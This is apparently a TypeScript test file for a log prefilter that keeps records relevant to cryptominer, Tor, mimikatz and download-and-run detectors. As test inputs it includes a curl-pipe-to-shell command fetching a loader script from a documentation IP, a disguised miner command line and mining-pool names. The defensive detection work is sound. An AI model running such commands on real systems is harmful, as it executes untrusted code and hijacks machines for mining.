import { test } from "node:test";
import assert from "node:assert/strict";
import { SourcePrefilters, buildPrefilter } from "./prefilter.js";
import { testIntel } from "../test-helpers/index.js";
import { zeekConnSource } from "../sources/network/zeek/source.js";

test("the prefilter keeps what detectors need and lets plain traffic go", () => {
  const p = buildPrefilter(testIntel());
  assert.equal(p.domain("xmr-eu1.nanopool.org"), true);
  assert.equal(p.domain("pool.example-miners.net"), true, "PB-31 label hint pool. keeps the record for the weak hint");
  assert.equal(p.domain("0.debian.pool.ntp.org"), false);
  assert.equal(p.domain("www.example.com"), false);
  assert.equal(p.port(3333), true);
  assert.equal(p.port(443), false);
  assert.equal(p.ip("10.1.2.3"), false);
  p.learnAnswer("xmr-eu1.nanopool.org", "141.94.96.144");
  assert.equal(p.ip("141.94.96.144"), true, "an address a pool name resolved to is learned");
  assert.equal(p.text('{"process":{"name":"bash","command_line":"ls -la"}}'), false);
  assert.equal(p.text('{"process":{"name":"XMRig"}}'), true);
  assert.equal(p.text('{"process":{"command_line":"/usr/bin/sysmon -o pool.supportxmr.com:443 -u 4AbC"}}'), true, "a renamed miner still names its pool");
  assert.equal(p.text('{"process":{"command_line":"./agent --server 203.0.113.9:14444"}}'), true, "pool port in a command line");
});

test("what Sigma rules need is kept too; null needs turn that kind of skipping off", () => {
  const withNeeds = buildPrefilter(testIntel(), { names: ["onion"], ports: [9050], text: ["mimikatz"] });
  assert.equal(withNeeds.domain("abcdef.onion"), true);
  assert.equal(withNeeds.domain("www.example.com"), false);
  assert.equal(withNeeds.port(9050), true);
  assert.equal(withNeeds.text("c:\\tools\\mimikatz.exe"), true);
  const everything = buildPrefilter(testIntel(), { names: null, ips: null, ports: null, text: null });
  assert.equal(everything.domain("www.example.com"), true);
  assert.equal(everything.ip("8.8.8.8"), true);
  assert.equal(everything.port(443), true);
  assert.equal(everything.text("ls -la"), true);
});

test("download-and-run command lines are kept for the persistence and entry-vector detectors", () => {
  const p = buildPrefilter(testIntel());
  assert.equal(p.text('{"process":{"command_line":"sh -c curl -fsSL http://203.0.113.7/ldr.sh | sh"}}'), true);
  assert.equal(p.text('{"process":{"command_line":"curl -s https://api.example.com/health"}}'), false);
});

test("an allowlisted look-alike is dropped even when a rule's name literal would keep it, unless the rule names the allowlisted domain", () => {
  // The PB-31 pack's hint rule needs names starting "pool."; pool.ntp.org starts so, and is allowlisted.
  const p = buildPrefilter(testIntel(), { names: ["pool.", "onion"] });
  assert.equal(p.domain("pool.ntp.org"), false);
  assert.equal(p.domain("0.pool.ntp.org"), false);
  assert.equal(p.domain("pool.internal-miners.example"), true, "a pool. name that is not allowlisted is kept");
  const naming = buildPrefilter(testIntel(), { names: ["pool.", ".ntp.org"] });
  assert.equal(naming.domain("pool.ntp.org"), true, "a rule naming ntp.org gets NTP names");
  assert.equal(naming.domain("time.google.com"), false, "other allowlisted names stay dropped");
});

test("remembered verdicts are the verdicts: asking twice, in any case, gives the same answer", () => {
  const p = buildPrefilter(testIntel(), { names: ["onion"] });
  for (let round = 0; round < 2; round++) {
    assert.equal(p.domain("xmr-eu1.nanopool.org"), true);
    assert.equal(p.domain("pool.ntp.org"), false);
    assert.equal(p.domain("abc.onion"), true);
    assert.equal(p.domain("www.example.com"), false);
    assert.equal(p.domain("pool.example-miners.net"), true);
  }
  // Names that differ only outside latin1 are different keys.
  assert.equal(p.domain("xn--pool-\u0100.onion"), true);
  assert.equal(p.domain("xn--pool-\u0200.example"), false);
});

test("remembered verdicts are found by a name's bytes only for that very name, however many names share the table", () => {
  const p = buildPrefilter(testIntel(), { names: ["onion"] });
  // Names under the "pool." hint, of equal length, half on the allowlist (no) and half not (yes): far more than the table holds.
  const names: string[] = [];
  for (let i = 0; i < 3000; i++) names.push(`pool.${String(i).padStart(4, "0")}.ntp.org`, `pool.${String(i).padStart(4, "0")}.xyz.org`);
  for (const name of names) assert.equal(p.domain(name), name.endsWith(".xyz.org"), name);
  let found = 0;
  for (const name of names) {
    const bytes = Buffer.from(name.toUpperCase(), "latin1");
    const fromBytes = p.domainBytes!(bytes, 0, bytes.length);
    if (fromBytes !== undefined) { found++; assert.equal(fromBytes, name.endsWith(".xyz.org"), name); }
  }
  assert.ok(found > 100 && found < names.length, `${found} of ${names.length} names still remembered`);
});

test("a look-alike answering endless addresses does not stop the pools' answers being learned", () => {
  const prefilters = new SourcePrefilters(testIntel());
  const flows = prefilters.forSource(zeekConnSource)!;
  // PB-31's "xmr." hint keeps the name, so its answers are learned: 150,000 of them, more than all the room there is.
  for (let i = 0; i < 150_000; i++) prefilters.learnAnswers("xmr.cdn-news.example", [`100.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`]);
  prefilters.learnAnswers("xmr-eu1.nanopool.org", ["185.71.66.20"]);
  assert.equal(flows.ip("185.71.66.20"), true, "a flow to the pool's address is kept");
  assert.equal(flows.ip("100.2.73.239"), true, "the look-alike's latest answer too");
  assert.equal(flows.ip("100.0.0.1"), false, "its first answers are forgotten");
});
